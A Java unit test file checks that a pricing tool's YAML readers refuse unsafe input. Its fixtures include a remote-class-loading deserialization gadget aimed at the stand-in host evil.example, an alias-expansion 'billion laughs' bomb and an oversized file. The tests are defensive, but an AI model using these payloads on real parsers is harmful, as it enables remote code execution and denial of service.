package dev.tokenprice.faults;

import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tokenprice.reading.Mapping;
import dev.tokenprice.reading.MappingException;
import dev.tokenprice.reading.settings.ProgramSettings;
import dev.tokenprice.reading.settings.SettingsException;
import dev.tokenprice.reading.words.Vocabulary;
import dev.tokenprice.reading.words.VocabularyException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** YAML that asks for more than data: it is refused, and nothing is made of it. */
class YamlFaultsTest {
  private static final String TYPED =
      "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
          + " [\"http://evil.example/\"]]]]";

  @TempDir private Path folder;

  @ParameterizedTest
  @ValueSource(strings = {TYPED, "!!java.net.URL 元/百万tokens", "!unit 元/百万tokens"})
  void aTypeInAMapping(String value) {
    assertThatThrownBy(() -> Mapping.parse("acme.yml", "vendor: ACME\nunit: " + value))
        .isInstanceOf(MappingException.class)
        .hasMessageStartingWith("acme.yml:2: '")
        .hasMessageMatching(
            ".*(the type !unit|Global tag is not allowed: tag:yaml.org,2002:java).*");
  }

  @Test
  void aTypeInTheSettings() throws IOException {
    Path file = Files.writeString(folder.resolve("settings.yml"), "stale_rate_days: " + TYPED);
    assertThatThrownBy(() -> ProgramSettings.read(file))
        .isInstanceOf(SettingsException.class)
        .hasMessageContaining("line 1: expected YAML, found 'Global tag is not allowed: ");
  }

  @Test
  void aTypeInTheVocabulary() throws IOException {
    Files.writeString(folder.resolve("units.yml"), "units: " + TYPED);
    assertThatThrownBy(() -> Vocabulary.builtIn().with(folder))
        .isInstanceOf(VocabularyException.class)
        .hasMessageStartingWith("units.yml: no valid YAML")
        .hasMessageContaining("javax.script.ScriptEngineManager");
  }

  /** Which of the two a reader sees is luck. */
  @Test
  void aKeyTwice() {
    assertThatThrownBy(() -> Mapping.parse("acme.yml", "unit: 元/千tokens\nunit: 元/百万tokens\n"))
        .isInstanceOf(MappingException.class)
        .hasMessageStartingWith("acme.yml:2: 'unit' is not known; nearest: 'each key once'");
  }

  /** Ten lines that stand for a billion values, and a list that holds itself. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\nunit: *c\n",
        "unit: &unit [*unit]\n"
      })
  void aliasesOfLists(String yaml) {
    assertThatThrownBy(() -> Mapping.parse("acme.yml", yaml))
        .isInstanceOf(MappingException.class)
        .hasMessageContaining("aliases");
  }

  @Test
  void aFileWithoutEnd() throws IOException {
    Path file =
        Files.writeString(folder.resolve("settings.yml"), "vocabulary: " + "x".repeat(2 << 20));
    assertThatThrownBy(() -> ProgramSettings.read(file))
        .isInstanceOf(SettingsException.class)
        .hasMessageContaining("1048576");
  }
}
